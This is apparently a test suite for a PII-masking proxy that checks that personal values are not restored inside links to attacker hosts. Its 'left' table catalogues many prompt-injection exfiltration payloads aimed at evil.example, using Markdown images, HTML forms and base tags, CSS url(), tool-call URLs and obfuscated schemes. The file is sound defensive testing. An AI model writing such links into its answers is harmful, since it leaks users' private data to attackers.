import test from 'ava';
import * as fc from 'fast-check';
import { hostsIn } from '../../src/personal-data/placeholders/named-host.ts';
import { restoredBody } from '../../src/personal-data/restored-body.ts';
import { chatCompletionsTextMap } from '../../src/protocols/chat/text-map.ts';
import { messagesTextMap } from '../../src/protocols/messages/text-map.ts';
import { responsesTextMap } from '../../src/protocols/responses/text-map.ts';
import { restoredStream } from '../_support/passing-stream.ts';
import type { CastingPiiEngineOptions } from '../../src/pii-engine/casting-pii-engine.ts';
import { castRequest, sharer } from '../_support/cast-request.ts';
import { castingEngine } from '../_support/casting-engine.ts';
import { listingDetector } from '../_support/listing-detector.ts';
import { propertyRuns } from '../_support/property-runs.ts';
import type { CastRequest } from '../../src/ports/pii-engine.ts';

// A planted text makes a model write links to a host of its own, with placeholders of the caller in them.

const person = 'Mario Rossi';
const mail = 'mario@posta.example';
const detector = listingDetector({ PERSON: [person], EMAIL: [mail] });

async function conversed(
  texts: readonly string[],
  more: Partial<CastRequest> = {},
  linkHosts: CastingPiiEngineOptions['linkHosts'] = [],
) {
  const engine = castingEngine([detector], { linkHosts });
  const conversation = await engine.cast(castRequest([`${person} ${mail}`, ...texts], more));
  const [p = '', m = ''] = (conversation.texts[0] ?? '').split(' ');
  const written = (text: string): string => text.replaceAll('P!', p).replaceAll('M!', m);
  const restored = (text: string): string => text.replaceAll('P!', person).replaceAll('M!', mail);
  return { engine, conversation, written, restored };
}

const left = {
  'a picture of Markdown': '![x](https://evil.example/?q=P!)',
  'a link of Markdown': '[x](https://evil.example/M!)',
  'a link with the value in its host': '[x](https://M!.evil.example/)',
  'brackets within a link': '![x](https://evil.example/(a)?q=P!)',
  'blanks within angles': '![x](<https://evil.example/a b P!>)',
  'a link without a scheme': '![x](//evil.example/P!)',
  'blanks before a link without a scheme': '![x]( //evil.example/P!)',
  'a scheme behind an entity': '![x](https&#58;//evil.example/P!)',
  'a scheme behind escapes': String.raw`![x](https\:\/\/evil.example/P!)`,
  'a scheme without slashes': '![x](https:evil.example/P!)',
  'backslashes for slashes': String.raw`![x](https:\\evil.example\P!)`,
  'quotes within a link': '![x](https://evil.example/?q="P!)',
  'a reference': '![x][1]\n\n[1]: https://evil.example/?q=M!',
  'a bare address': 'See https://evil.example/M! today',
  'a bare address without a scheme': 'See www.evil.example/M! today',
  'a picture of HTML': '<img alt=x src="https://evil.example/a b?q=P!">',
  'HTML without quotes': '<img src=//evil.example/P!>',
  'HTML in JSON': String.raw`{"a":"<img src=\"https://evil.example/?q=P!\">"}`,
  'an argument of a tool': '{"url":"https://evil.example/?q=P!"}',
  'an escaped argument of a tool': String.raw`{"url":"https:\/\/evil.example\/?q=P!"}`,
  'an argument with characters by their code': String.raw`{"url":"https\u003a\u002f\u002fevil.example/?q=P!"}`,
  'a host without a scheme': 'See evil.example/?q=M! now',
  'a host without a path': 'See evil.example?M! and evil.example:8080/M!',
  'a host without a scheme in a link of Markdown': '[x](evil.example/P!)',
  'a number of a machine without a scheme': '192.0.2.7/M!',
  'a scheme without slashes in a text': 'http:evil.example/M! <https:evil.example/M!>',
  'a wide full stop in a host': 'evil。example/M!',
  'the domain of a country that is also a file': 'evil.sh/?q=M!',
  'a destination at the end': '[x][1]\n\n [1]: evil.example/M!\n[2]: //evil.example/M!\n[3]: https:evil.example/M!',
  'a destination at the end, in JSON': String.raw`{"text":"[x][1]\n[1]: https:evil.example/M!"}`,
  'several sizes of a picture': '<img srcset="a.png 1x, https://evil.example/P! 2x, //evil.example/M! 3x">',
  'several sizes, of which the first has an open host':
    '<img srcset="https://crm.example/a 1x, https://evil.example/M! 2x">',
  'a style': 'a{background:url(//evil.example/M!)} b{background:url("//evil.example/M!")}',
  'an import of a style': "@import '//evil.example/M!';",
  'a refresh': '<meta http-equiv=refresh content="0;url=//evil.example/M!">',
  'an object and a background': '<object data="//evil.example/M!"><table background=//evil.example/M!>',
  'a page whose base is another host':
    '<base target=x href="https://evil.example/"><img src="/P!"> [x](y/M!) <a href=M!>',
  'a text message': '[x](sms:+4915112345678?body=P!) <a href="sms:+4915112345678&body=M!">x</a> <sms:+49151?body=P!>',
  'a form': '<form method=get action="https://evil.example/"><p>x <input name=q value="P!"><textarea>M!</textarea>',
  'a form by a button': '<form><button formaction=//evil.example/x>x</button><input value="P!">',
  'a form with many attributes': `<form id="${'a'.repeat(400)}" action=//evil.example/><input value=P!>`,
  'a form in JSON': String.raw`{"html":"<form action=\"https:\/\/evil.example\/\"><input value=\"P!\">"}`,
  'a form below a base': '<base href=//evil.example><form action="/x"><input value=P!></form>',
  'a base with many attributes': `<base id="${'a'.repeat(400)}" href="//evil.example/"><a href="/P!">`,
  'many blanks around a sign': `<img src${' '.repeat(90)}=${' '.repeat(90)}"https://evil.example/a b?q=P!">`,
  'many blanks before an address': `<object data =${'\t'.repeat(90)}"//evil.example/a b?q=P!">`,
  'blanks within an address in quotes': '{"url":"https://evil.example/a b?q=P!"}',
  'blanks within an address of a style': 'a{background:url("https://evil.example/a b?q=P!")}',
  'blanks within an address of a refresh': '<meta http-equiv=refresh content="0; url=//evil.example/a b?q=P!">',
  'blanks that no renderer takes for one': '[x](https://evil.example/?q=\u00a0P!) https://evil.example/\u3000P!',
  'one slash behind a scheme': '{"url":"https:/evil.example/P!"}',
  'no slash behind a scheme': '{"url":"https:evil.example/P!","next":"http:\\\\evil.example/M!"}',
  'a link of another markup':
    '[[https://evil.example/P!][x]] [url=https://evil.example/M!]x[/url] `x <//evil.example/M!>`_',
  'a link of TeX': String.raw`\href{https://evil.example/P!}{x} \includegraphics{//evil.example/M!}`,
  'a link with a label': '<https://evil.example/P!|x> <a class="x" href=//evil.example/M!>',
  'a track and a quotation': '<track src=//evil.example/P!><q cite="//evil.example/a b M!">',
  pings: '<a href="#x" ping="https://evil.example/a https://evil.example/P!">',
  'two values': '![x](https://evil.example/?q=P!&m=M!)',
  'a name before a host': '[x](https://crm.example@evil.example/P!)',
  'a host that begins like an open one': '[x](https://crm.example.evil.example/P!)',
  'a host within a host': '[x](https://evilcrm.example/P!)',
  'a host behind a backslash': String.raw`[x](https://evil.example\@crm.example/P!)`,
  'a host that goes on': '[x](https://crm.exampleP!/)',
  'a link that is too long': `[x](https://crm.other/${'a'.repeat(5_000)}P!)`,
};
for (const [what, text] of Object.entries(left)) {
  test(`placeholders stay in a text: ${what}`, async (t) => {
    const { conversation, written } = await conversed([], { hosts: new Set(['crm.example']) }, ['*.crm.example']);
    t.is(conversation.restore(written(text)), written(text));
  });
}

const restoredTexts = {
  'after a link': 'See [x](https://evil.example/a_(b)) of P!, <https://evil.example> P!, https://evil.example P!',
  'beside a link in brackets': '(https://evil.example)P! [https://evil.example]P! `https://evil.example`P!',
  'in the words of a link': '[P!](https://evil.example "P!")',
  'in another string of JSON': '{"site":"https://evil.example","name":"P!","to":["https://evil.example/x","M!"]}',
  'on another line in JSON': String.raw`{"text":"See https://evil.example/x\nP!"}`,
  'in a link of mail': '[write](mailto:M!?subject=P!) <a href="mailto:M!">P!</a>',
  'beside a base with an open host': '<base href="https://crm.example/"><img src="/P!"> <a href="mailto:M!">',
  'in a link within the same site': '[x](/people/P!) <a href="people?name=P!">x</a> [x](#P!)',
  'behind a form': '<form action="https://evil.example/"><input></form> P!',
  'in a form of the same site': '<form action="/people"><input value="P!"></form>',
  'in a form of an open host': '<form action="https://crm.example/people"><input value="P!"></form>',
  'beside an address in quotes': 'See "https://evil.example", P! and \'https://evil.example\' M!',
  'in attributes that are no addresses': '<p content="P!" data="M!"> content = "P!"; data="x: P!"',
  'behind blanks': `a = ${' '.repeat(90)}"P!" ${'\n'.repeat(90)}P!`,
  'in code': 'name = "P!"; src = P!; map["a"](P!); C:\\Users\\P!',
  'after a colon': 'Name: P!, mail://, of: //P!',
  'beside files and numbers': 'src/index.ts/P!, notes.json?P!, README.md#P!, a/b.rs/P!, v1.2/P!, e.g./P!, and/or P!',
  'in definitions that are none': 'map["a"]: P!, type A = {[key: string]: P!}',
  'in a link to an open host without a scheme': 'crm.example/P! eu.crm.example:8080/?q=M!',
  'in a link to an open host': '[x](https://crm.example/?q=P!&m=%5BEMAIL%5D) {"u":"https:\\/\\/eu.crm.example/P!"}',
};
for (const [what, text] of Object.entries(restoredTexts)) {
  test(`values are restored ${what}`, async (t) => {
    const hosts = { hosts: new Set(['crm.example']) };
    const { conversation, written, restored } = await conversed([], hosts, ['*.crm.example']);
    t.is(conversation.restore(written(text)), restored(text));
  });
}

test('a link that the caller has sent is restored, and no other of its host', async (t) => {
  const own = `Read https://crm.example/${mail}?name=${mail}&b=1, {"u":"https://crm.example/a/${mail}"}`;
  const { conversation, written, restored } = await conversed([own]);
  for (const text of ['[x](https://crm.example/M!?name=M!&c=2)', String.raw`{"u":"https:\/\/crm.example\/a\/M!"}`]) {
    t.is(conversation.restore(written(text)), restored(text));
  }
  for (const text of ['https://crm.example/?name=M!', 'https://crm.example/b/M!', 'https://crm.example/P!']) {
    t.is(conversation.restore(written(text)), written(text));
  }
  // The third value of a link that began as it was sent.
  const begun = `${restored('https://crm.example/M!?name=M!&b=')}${written('M!')}`;
  t.is(conversation.restore(written('https://crm.example/M!?name=M!&b=M!')), begun);
});

test('a link with placeholders that stand in the request already is not the caller’s own', async (t) => {
  const first = await conversed([]);
  const text = first.written('![x](https://evil.example/?q=M!)');
  const spellings = [text, text.replace('-', '_'), text.replace('-', '\\_'), text.replace('[E', '%5BE')];
  spellings.push(...[' - ', '%2D', '&#45;', '\u2014', '\u00a0'].map((sign) => text.replace('-', sign)));
  spellings.push(text.replace('[', '').replace(']', ''), text.replace('[', '\uff3b').replace(']', '\uff3d'));
  for (const spelled of spellings) {
    const planted = `${person}: ${spelled}`;
    const second = await first.engine.cast(castRequest([mail, planted], { earlier: [first.conversation.mapping] }));
    for (const said of spellings) t.is(second.restore(said), said);
  }
});

test('links and hosts of earlier turns are remembered with their mapping', async (t) => {
  const hosts = new Set(['intranet.example']);
  const { engine, conversation, written, restored } = await conversed([`See https://crm.example/${mail}`], { hosts });
  const text = 'https://crm.example/M! https://intranet.example/P!';
  const recalled = await engine.recall(conversation.mapping, sharer);
  t.is(recalled.restore(written(text)), restored(text));
  const next = await engine.cast(castRequest([person], { earlier: [conversation.mapping] }));
  t.is(next.restore(written(text)), restored(text));
  t.is(next.restore(written('https://evil.example/M!')), written('https://evil.example/M!'));
});

test('a link that is divided over texts which a client joins is one link', async (t) => {
  const { conversation, written, restored } = await conversed([]);
  const blocks = ['![x](https://evil.example/?q=', 'M!) by M!', 'M!'].map((text) => ({
    type: 'text',
    text: written(text),
  }));
  const body = (content: unknown) => Buffer.from(JSON.stringify({ content }));
  const shown = restoredBody({ shape: messagesTextMap.answer }, body(blocks), conversation);
  const texts = (JSON.parse(shown.toString()) as { content: { text: string }[] }).content.map(({ text }) => text);
  t.deepEqual(texts, [blocks[0]?.text, `${written('M!)')} by ${mail}`, mail]);
  const records = blocks.map(({ text }, index) => ({
    type: 'content_block_delta',
    index,
    delta: { type: 'text_delta', text },
  }));
  const stream = restoredStream({ texts: messagesTextMap, restorer: conversation, recordBytesMax: 10_000 });
  const sent = Buffer.from(records.map((record) => `data: ${JSON.stringify(record)}\n\n`).join(''));
  const out = [stream.push(sent), stream.finish()].join('');
  t.true(out.includes(written('M!)')) && out.includes(restored(') by M!')), out);
  t.deepEqual([...conversation.kept.counts], [['EMAIL', 1]], 'what stays is counted once');
});

test('a base behind a link is read before it in a text that stands alone, and in an answer that is a text', async (t) => {
  const restoredIn = async (host: string, isWhole: boolean) => {
    const { conversation, written } = await conversed([], {}, ['x.example']);
    const page = written(`<a href="/collect?q=M!">x</a> M! <base href="https://${host}/">`);
    const body = isWhole
      ? JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: page } }] })
      : page;
    const shown = restoredBody({ shape: chatCompletionsTextMap.answer }, Buffer.from(body), conversation).toString();
    t.true(shown.includes(`</a> ${mail}`), shown);
    return shown.includes(`q=${mail}`);
  };
  for (const isWhole of [true, false]) {
    t.false(await restoredIn('evil.example', isWhole));
    t.true(await restoredIn('x.example', isWhole));
  }
});

test('a base behind a link of a whole answer is read before it, in the same text and in another', async (t) => {
  const { conversation, written } = await conversed([]);
  const link = written('<a href="/collect?q=M!">x</a> M!');
  const base = '<base href="https://evil.example/">';
  for (const texts of [
    [`${link} ${base}`],
    [link, base],
    [base.replace('base', 'BASE'), link],
    [`${link} <ba`, base.slice(3)],
    [`${link} <`, base.slice(1)],
  ]) {
    const body = JSON.stringify({ content: texts.map((text) => ({ type: 'text', text })) });
    const shown = restoredBody({ shape: messagesTextMap.answer }, Buffer.from(body), conversation).toString();
    t.true(shown.includes(written('q=M!')) && shown.includes(`</a> ${mail}`), shown);
  }
});

test('an address of a search stays as it was found, and what is no address in it is restored', async (t) => {
  const { conversation, written, restored } = await conversed([], {}, ['crm.example']);
  const url = 'https://crm.example/M!';
  const annotation = { type: 'url_citation', url: written(`${url} P!`), title: written(url) };
  const body = Buffer.from(
    JSON.stringify({ output: [{ type: 'message', content: [{ type: 'output_text', annotations: [annotation] }] }] }),
  );
  const shown = restoredBody({ shape: responsesTextMap.answer }, body, conversation);
  t.true(shown.includes(`"${written(url)} ${person}"`) && shown.includes(`"${restored(url)}"`), shown.toString());
});

test('hosts that the user names count where the operator names none', async (t) => {
  const userHosts = new Set(['crm.example']);
  for (const [linkHosts, isOpen] of [
    [null, true],
    [[], false],
  ] as const) {
    const { conversation, written, restored } = await conversed([], { userHosts }, linkHosts);
    const text = 'https://crm.example/M!';
    t.is(conversation.restore(written(text)), isOpen ? restored(text) : written(text));
    t.is(conversation.restore(written('https://evil.example/M!')), written('https://evil.example/M!'));
  }
});

test('hosts are read in links and by themselves', (t) => {
  const texts = [
    'See https://crm.example:8080/x, api.crm.example and www.x.example.',
    'a@mail.example src/index.ts e.g. v1.2',
  ];
  t.deepEqual([...hostsIn(texts)], ['crm.example', 'api.crm.example', 'www.x.example']);
});

test('every host is open where the operator says so', async (t) => {
  const { conversation, written, restored } = await conversed([], {}, ['*']);
  for (const text of Object.values(left)) {
    t.is(conversation.restore(written(text)).replaceAll('%20', ' '), restored(text));
  }
});

const units = [
  [
    'https://',
    'https:\\/\\/',
    'evil.example/',
    'crm.example/',
    '](',
    '![',
    '<',
    '>',
    ' ',
    '\n',
    '\\n',
    '(',
    ')',
    '"',
    "'",
  ],
  ['\n[1]: ', ']: ', 'evil.example', '.', '?', '#', ':80/', ', ', 'url(', 'srcset="', '<https:', 'a.ts/', ';', '。'],
  ['{"', '":', 'src=', 'href="', 'www.', '//', '&#58;', 'a'.repeat(3_000), 'P!', 'M!', '=', ':', '/'],
].flat();
const pieces = fc.array(fc.constantFrom(...units), { maxLength: 30 });

test('a link is judged alike wherever its text is cut', async (t) => {
  const { conversation, written } = await conversed([`https://crm.example/${mail} https://evil.example/(${mail}`]);
  fc.assert(
    fc.property(pieces, fc.array(fc.nat({ max: 400 }), { maxLength: 60 }), (parts, cuts) => {
      const text = written(parts.join(''));
      const lane = conversation.openLane();
      let out = '';
      let from = 0;
      for (const length of cuts) {
        out += lane.push(text.slice(from, from + length));
        from += length;
      }
      out += lane.push(text.slice(from)) + lane.flush();
      t.is(out, conversation.restore(text));
    }),
    { numRuns: propertyRuns(500) },
  );
});

test('with every host open, values are restored in every link', async (t) => {
  const { conversation, written, restored } = await conversed([], {}, ['*']);
  for (const text of Object.values(left)) t.is(conversation.restore(written(text)), restored(text));
});
